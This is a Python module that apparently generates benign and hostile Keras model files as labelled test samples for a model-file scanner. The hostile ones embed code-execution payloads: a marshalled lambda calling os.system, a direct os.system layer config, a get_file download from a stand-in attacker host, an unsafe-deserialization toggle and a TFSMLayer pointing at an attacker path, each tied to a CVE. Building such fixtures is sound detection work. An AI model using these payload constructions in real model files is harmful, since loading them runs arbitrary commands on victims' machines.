"""Keras samples: v3 ``.keras`` archives and legacy H5 models, benign and hostile."""

from __future__ import annotations

import base64
import json
import marshal
import types
from collections.abc import Iterator
from typing import Any

from modelcustoms.samples.hdf5 import Dataset, Group, build_hdf5
from modelcustoms.samples.hostile_pickles import CMD
from modelcustoms.samples.items import Item, Plan, one
from modelcustoms.samples.libs import array
from modelcustoms.samples.zipwriter import simple_zip

NVD = "https://nvd.nist.gov/vuln/detail/"


def _f32(plan: Plan, *shape: int) -> bytes:
    return array("f4", tuple(shape), plan.rng).data


def _ser(module: str, cls: str, config: Any, **extra: Any) -> dict[str, Any]:
    return {"module": module, "class_name": cls, "config": config, "registered_name": None, **extra}


def _dense(name: str, units: int, n_in: int) -> dict[str, Any]:
    dtype = _ser("keras", "DTypePolicy", {"name": "float32"})
    cfg = {
        "name": name,
        "trainable": True,
        "dtype": dtype,
        "units": units,
        "activation": "relu",
        "use_bias": True,
        "kernel_initializer": _ser("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": _ser("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None,
        "bias_regularizer": None,
        "kernel_constraint": None,
        "bias_constraint": None,
    }
    return _ser("keras.layers", "Dense", cfg, build_config={"input_shape": [None, n_in]})


def _lambda_code() -> str:
    src = f"lambda x: __import__('os').system('{CMD}') or x"
    code = next(c for c in compile(src, "<zoo>", "eval").co_consts if isinstance(c, types.CodeType))
    return base64.b64encode(marshal.dumps(code)).decode()


def _sequential(layers: list[dict[str, Any]], n_in: int) -> dict[str, Any]:
    inp = _ser(
        "keras.layers",
        "InputLayer",
        {"batch_shape": [None, n_in], "dtype": "float32", "sparse": False, "name": "input_layer"},
    )
    cfg = {
        "name": "sequential",
        "trainable": True,
        "layers": [inp, *layers],
        "build_input_shape": [None, n_in],
    }
    return _ser("keras", "Sequential", cfg, build_config={"input_shape": [None, n_in]})


def _keras_zip(plan: Plan, config: dict[str, Any], weights: dict[str, tuple[int, int]]) -> bytes:
    layers = Group()
    for name, (n_in, units) in weights.items():
        vars_ = Group(
            children={
                "0": Dataset((n_in, units), _f32(plan, n_in, units)),
                "1": Dataset((units,), _f32(plan, units)),
            }
        )
        layers.children[name] = Group(children={"vars": vars_})
    h5 = build_hdf5(
        Group(children={"layers": layers, "optimizer": Group(children={"vars": Group()})})
    )
    meta = {"keras_version": "3.6.0", "date_saved": "2025-01-15@10:21:07"}
    return simple_zip(
        {
            "metadata.json": json.dumps(meta).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": h5,
        },
        deflate=False,
    )


def keras(plan: Plan) -> Iterator[Item]:
    """Keras v3 archives and legacy H5 models."""
    for _ in range(plan.n(1, 6)):
        n_in, hidden = plan.rng.randrange(2, 9), plan.rng.randrange(2, 9)
        cfg = _sequential([_dense("dense", hidden, n_in), _dense("dense_1", 1, hidden)], n_in)
        yield one(
            "model.keras",
            _keras_zip(plan, cfg, {"dense": (n_in, hidden), "dense_1": (hidden, 1)}),
            "benign",
            "benign.keras-v3",
            "keras-v3",
        )
    func = {"class_name": "__lambda__", "config": {"value": [_lambda_code(), None, None]}}
    lam = _ser(
        "keras.layers",
        "Lambda",
        {"name": "lambda", "trainable": True, "function": func, "arguments": {}},
    )
    hostile: list[tuple[str, dict[str, Any], str | None]] = [
        (
            "keras.lambda-layer",
            lam,
            "https://keras.io/api/models/model_saving_apis/model_saving_and_loading/",
        ),
        ("keras.module-injection", _ser("os", "system", CMD), NVD + "CVE-2025-1550"),
        (
            "keras.get-file",
            _ser(
                "keras.utils",
                "get_file",
                {
                    "fname": "x.h5",
                    "origin": "http://attacker.invalid/payload.h5",
                    "cache_dir": "/tmp",
                },
            ),
            NVD + "CVE-2025-8747",
        ),
        (
            "keras.enable-unsafe-deserialization",
            _ser("keras.config", "enable_unsafe_deserialization", {}),
            NVD + "CVE-2025-9906",
        ),
        (
            "keras.tfsmlayer",
            _ser(
                "keras.layers",
                "TFSMLayer",
                {"name": "tfsm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"},
            ),
            "https://github.com/keras-team/keras/security/advisories",
        ),
    ]
    for tech, layer, ref in hostile:
        for _ in range(plan.n(1, 2)):
            layers = [_dense("dense", 4, 4), layer]
            if tech == "keras.enable-unsafe-deserialization":
                layers.append(lam)
            yield one(
                "model.keras",
                _keras_zip(plan, _sequential(layers, 4), {"dense": (4, 4)}),
                "hostile",
                tech,
                "keras-v3",
                ref,
            )
    for i in range(plan.n(1, 6)):
        hostile_h5 = i % 2 == 1
        yield one(
            "model.h5",
            _legacy_h5(plan, hostile_h5),
            "hostile" if hostile_h5 else "benign",
            "keras.h5-lambda" if hostile_h5 else "benign.keras-h5",
            "hdf5",
            NVD + "CVE-2025-9905" if hostile_h5 else None,
        )


def _legacy_h5(plan: Plan, with_lambda: bool) -> bytes:
    def dense(name: str, units: int) -> dict[str, Any]:
        return {
            "class_name": "Dense",
            "config": {
                "name": name,
                "trainable": True,
                "dtype": "float32",
                "units": units,
                "activation": "relu",
                "use_bias": True,
            },
        }

    layers = [dense("dense", 8), dense("dense_1", 1)]
    if with_lambda:
        layers.insert(
            1,
            {
                "class_name": "Lambda",
                "config": {
                    "name": "lambda",
                    "trainable": True,
                    "function": [_lambda_code(), None, None],
                    "function_type": "lambda",
                    "module": "__main__",
                    "output_shape": None,
                    "arguments": {},
                },
            },
        )
    cfg = {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}
    weights = Group(
        attrs={
            "layer_names": [b"dense", b"dense_1"],
            "backend": b"tensorflow",
            "keras_version": b"2.15.0",
        }
    )
    for name, shape in (("dense", (4, 8)), ("dense_1", (8, 1))):
        weights.children[name] = Group(
            attrs={"weight_names": [f"{name}/kernel:0".encode(), f"{name}/bias:0".encode()]},
            children={
                name: Group(
                    children={
                        "kernel:0": Dataset(shape, _f32(plan, *shape)),
                        "bias:0": Dataset(shape[1:], _f32(plan, shape[1])),
                    }
                )
            },
        )
    root = Group(
        attrs={
            "backend": b"tensorflow",
            "keras_version": b"2.15.0",
            "model_config": json.dumps(cfg).encode(),
        },
        children={"model_weights": weights},
    )
    return build_hdf5(root)


FAMILIES = (keras,)
